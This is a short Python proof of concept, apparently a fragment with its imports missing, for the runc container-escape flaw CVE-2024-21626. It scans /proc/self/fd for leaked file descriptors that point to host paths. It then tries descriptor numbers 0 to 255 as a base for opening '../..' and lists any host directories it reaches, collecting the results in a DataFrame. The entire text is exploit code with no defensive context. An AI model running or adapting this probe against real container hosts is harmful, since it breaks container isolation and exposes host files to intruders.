# CVE-2024-21626 (runc, "Leaky Vessels"): a descriptor that was left open leads to a folder of the host.
def targets():
    for name in os.listdir('/proc/self/fd'):
        with contextlib.suppress(FileNotFoundError):
            yield os.readlink(f'/proc/self/fd/{name}')
leaked = [t for t in targets() if t.startswith('/') and not t.startswith(('/dev/null', '/proc/'))]
reached = []
for number in range(256):
    with contextlib.suppress(OSError):
        reached += os.listdir(os.open('../..', os.O_RDONLY | os.O_DIRECTORY, dir_fd=number))
result = pl.DataFrame({'outcome': leaked + reached or ['refused']})
